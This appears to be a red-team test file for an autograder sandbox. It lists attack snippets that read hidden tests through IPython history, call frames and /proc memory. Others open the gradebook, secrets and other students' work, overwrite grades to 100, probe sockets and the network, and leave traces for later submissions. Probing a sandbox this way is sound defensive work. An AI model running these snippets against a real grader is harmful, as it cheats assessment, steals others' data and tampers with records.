"""Looking for what must not be seen: hidden tests, the course, others' work, the machine."""

from tests.redteam.redlab import Attack

_SPY = {
    "windows": "def windows(items, n):\n    spy()\n    return []",
    "bisect": "def bisect(f, low, high):\n    spy()\n    return low",
    "softmax": "def softmax(z):\n    spy()\n    return z",
}

_FINDS = """
import os, socket
found = [os.path.join(d, f) for top in ("/tmp", "/dev/shm", "/var", "/run", ".", os.environ["HOME"])
         for d, _, files in os.walk(top) for f in files if f == "redteam-trace"]
if "REDTEAM_TRACE" in os.environ:
    found.append("environment")
try:
    socket.socket(socket.AF_UNIX).connect("\\0redteam-trace")
    found.append("socket")
except OSError:
    pass
print("can" + "ary-other-trace" if found else "nothing", found)
"""

ATTACKS = {
    "history_lists": Attack(
        says="Prints In, _ih, _i and the history's lists while a test runs, and in a later cell.",
        code="""
            def spy():
                ip = get_ipython()
                print(In[-3:], _ih[-1], ip.history_manager.input_hist_raw[-2:], ip.user_ns.get("_i"), ip.user_ns["_oh"])
        """,
        answers={**_SPY, "softmax": "spy()"},
        spies=True,
    ),
    "history_database": Attack(
        says="Reads IPython's history database and its cache of not yet written lines.",
        code="""
            def spy():
                manager = get_ipython().history_manager
                print(manager.db_input_cache)
                manager.writeout_cache()
                print(list(manager.get_tail(20, include_latest=True)), list(manager.search("*" + "can" + "ary*")))
        """,
        answers=_SPY,
        spies=True,
    ),
    "parent_message": Attack(
        says="Reads the request that the kernel is working on, whose content is the cell.",
        code="""
            def spy():
                kernel = get_ipython().kernel
                print(kernel.get_parent("shell"))
                print(getattr(kernel, "_parent_ident", 0), getattr(kernel, "_parents", 0))
        """,
        answers=_SPY,
        spies=True,
    ),
    "namespace": Attack(
        says="Prints the names and values of its own namespace while a test runs, and after it.",
        code="def spy():\n    print({k: v for k, v in list(globals().items()) if isinstance(v, (float, list, str))})",
        answers={**_SPY, "running-mean": "spy()"},
        spies=True,
    ),
    "code_of_callers": Attack(
        says="Prints names, constants and locals of every frame of every thread.",
        code="""
            import sys
            def spy():
                for frame in sys._current_frames().values():
                    while frame:
                        print(frame.f_code.co_names, frame.f_code.co_consts, repr(frame.f_locals)[:3000])
                        frame = frame.f_back
        """,
        answers=_SPY,
        spies=True,
    ),
    "environment": Attack(
        says="Reads environment and command line of every process that /proc shows.",
        code="""
            import os
            print(dict(os.environ))
            for pid in filter(str.isdecimal, os.listdir("/proc")):
                for name in ("environ", "cmdline", "comm", "stack", "auxv", "mountinfo"):
                    try:
                        print(pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:2000])
                    except OSError:
                        pass
        """,
        isolated=True,
    ),
    "descriptors": Attack(
        says="Reads whatever its own and other processes' descriptors, roots and working directories lead to.",
        code="""
            import os, socket
            for pid in ["self", "1", str(os.getppid()), *filter(str.isdecimal, os.listdir("/proc"))]:
                try:
                    for fd in os.listdir(f"/proc/{pid}/fd"):
                        path = f"/proc/{pid}/fd/{fd}"
                        print(pid, fd, os.readlink(path))
                        if not os.readlink(path).startswith(("socket:", "pipe:", "/dev", "anon")):
                            print(open(path, "rb").read(4096))
                    for place in ("root", "cwd"):
                        print(os.listdir(f"/proc/{pid}/{place}/"), os.listdir(f"/proc/{pid}/{place}@ROOT@"))
                except OSError as error:
                    print(pid, error)
        """,
        isolated=True,
    ),
    "files_of_the_course": Attack(
        says="Opens the files of the course by their names: source, gradebook, secrets, somebody else's work.",
        code="""
            import glob, os, sqlite3
            for path in ["@ROOT@/secret.txt", "@ROOT@/gradebook.db", "@ROOT@/nbgrader_config.py",
                         *glob.glob("@ROOT@/**/*", recursive=True), *glob.glob("../**/*", recursive=True),
                         *glob.glob("/tmp/**/*.*", recursive=True), *glob.glob("/run/**/*", recursive=True)]:
                try:
                    print(path, open(path, "rb").read()[:1 << 16])
                except OSError as error:
                    print(error)
            try:
                connection = sqlite3.connect("file:@ROOT@/gradebook.db?mode=ro", uri=True)
                print(connection.execute("select source from source_cell").fetchall())
            except sqlite3.Error as error:
                print(error)
        """,
        isolated=True,
    ),
    "writes_grades": Attack(
        says="Writes into the gradebook, the autograded and the feedback folder, and its own submission.",
        code="""
            import os, sqlite3
            for path in ("autograded/x", "feedback/x", "submitted/x", ".autograder/07_red.jsonl", "source/07_red/x"):
                try:
                    os.makedirs(os.path.dirname("@ROOT@/" + path), exist_ok=True)
                    open("@ROOT@/" + path, "a").write("redteam")
                except OSError as error:
                    print(error)
            try:
                with sqlite3.connect("@ROOT@/gradebook.db") as book:
                    book.execute("update grade set auto_score = 100, manual_score = 100")
            except sqlite3.Error as error:
                print(error)
        """,
        isolated=True,
    ),
    "network": Attack(
        says="Connects to a server on this machine, to one beyond, and asks for names.",
        code="""
            import socket, urllib.request
            for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("::1", @PORT@), ("192.0.2.1", 80)):
                try:
                    with socket.create_connection(address, timeout=0.5) as connection:
                        print(connection.recv(100))
                except OSError as error:
                    print(address, error)
            try:
                print(urllib.request.urlopen("http://127.0.0.1:@PORT@", timeout=0.5).read())
            except (OSError, Exception) as error:
                print(error)
        """.replace("@PORT@", "int('@PORT@')"),
        isolated=True,
    ),
    "abstract_socket": Attack(
        says="Connects to abstract sockets of the machine and to every socket file that it can find.",
        code="""
            import os, socket
            names = ["\\0@ABSTRACT@"]
            for top in ("/tmp", "/run", "/dev/shm", "/var", "/proc/self/cwd"):
                names += [os.path.join(d, f) for d, _, fs in os.walk(top) for f in fs]
            try:
                names += ["\\0" + line.split()[-1][1:] for line in open("/proc/net/unix") if "@" in line]
            except OSError:
                pass
            for name in names[:500]:
                with socket.socket(socket.AF_UNIX) as connection:
                    connection.settimeout(0.2)
                    try:
                        connection.connect(name)
                        print(name, connection.recv(100))
                    except OSError:
                        pass
        """,
        isolated=True,
    ),
    "shared_memory": Attack(
        says="Looks through shared memory, System V segments, message queues, keyrings and locks for others' data.",
        code="""
            import ctypes, os
            from multiprocessing import shared_memory
            libc = ctypes.CDLL(None)
            print(os.listdir("/dev/shm"), [libc.shmat(n, 0, 0) for n in range(20)])
            for name in ("/proc/keys", "/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/locks", "/dev/mqueue"):
                try:
                    print(open(name).read()[:500])
                except OSError as error:
                    print(error)
            print(libc.syscall(250, 0, -4, 1))
        """,
    ),
    "answer_message": Attack(
        says="Reveals what is compared with it through messages: returns a description of its caller as the answer.",
        code="""
            import sys
            def caller():
                frame, words = sys._getframe(1), []
                while frame and len(words) < 60:
                    words += [str(c) for c in frame.f_code.co_consts if isinstance(c, (str, float))]
                    words += [name for name in frame.f_code.co_names if name.startswith("canary")]
                    frame = frame.f_back
                return " ".join(words)
        """,
        answers={
            "windows": "def windows(items, n):\n    raise ValueError(caller())",
            "bisect": "def bisect(f, low, high):\n    return caller()",
            "softmax": "def softmax(z):\n    return {caller(): 1}",
        },
        spies=True,
    ),
    "later_process": Attack(
        says="Leaves a process behind that reads its parent's memory files while the tests run.",
        code="""
            import os, re, time
            smell = re.compile(b"canary" + rb"[-_]hidden[-_]\\w+")
            target = os.getpid()
            told, tell = os.pipe()
            if os.fork() == 0:
                import ctypes
                ctypes.CDLL(None).prctl(15, b"redteam-later", 0, 0, 0)
                found = set()
                for _ in range(20):
                    for pid in filter(str.isdecimal, os.listdir("/proc")):
                        try:
                            maps = open(f"/proc/{pid}/maps").readlines()
                            with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                                for line in maps:
                                    low, high = (int(part, 16) for part in line.split()[0].split("-"))
                                    if " rw-p " in line and high - low < 1 << 26 and int(pid) != os.getpid():
                                        memory.seek(low)
                                        found |= set(smell.findall(memory.read(high - low) or b""))
                        except OSError:
                            pass
                    os.write(tell, repr(sorted(found)).encode())
                    time.sleep(0.05)
                os._exit(0)
            os.set_blocking(told, False)
            def spy():
                import time
                time.sleep(0.3)
                try:
                    print(os.read(told, 60000))
                except BlockingIOError:
                    pass
        """,
        answers={"windows": _SPY["windows"], "softmax": "spy()"},
        spies=True,
    ),
    "imports_the_grader": Attack(
        says="Imports whatever of the grader its process can import, and asks it for its tests, keys and sockets.",
        code="""
            import gc, importlib, pkgutil, sys
            print([name for name in sys.modules if name.startswith(("autograder", "nbgrader"))])
            for name in ("autograder", "autograder.boundary", "autograder.grading.scoring", "autograder.course"):
                try:
                    module = importlib.import_module(name)
                    inside = pkgutil.iter_modules(getattr(module, "__path__", []))
                    print(name, vars(module).keys(), [found.name for found in inside])
                except BaseException as error:
                    print(name, error)
            for thing in gc.get_objects():
                if str(type(thing).__module__).startswith("autograder"):
                    print(type(thing), repr(getattr(thing, "__dict__", ""))[:500])
        """,
    ),
    "leaves_traces": Attack(
        says="Leaves files, shared memory and sockets wherever it can write, for those who come after it.",
        code="""
            import os, socket
            from multiprocessing import shared_memory
            for place in (".", "/tmp", "/dev/shm", os.environ["HOME"], "/var/tmp", "/run", "/dev/mqueue", "/tmp/home"):
                try:
                    open(os.path.join(place, "redteam-trace"), "w").write("left here")
                except OSError:
                    pass
            listener = socket.socket(socket.AF_UNIX)
            listener.bind("\\0redteam-trace")
            listener.listen()
            os.environ["REDTEAM_TRACE"] = "1"
        """,
    ),
    "finds_traces": Attack(says="Looks for what others have left, where they could have.", code=_FINDS),
    "finds_traces_later": Attack(says="Looks again, much later.", code=_FINDS),
}
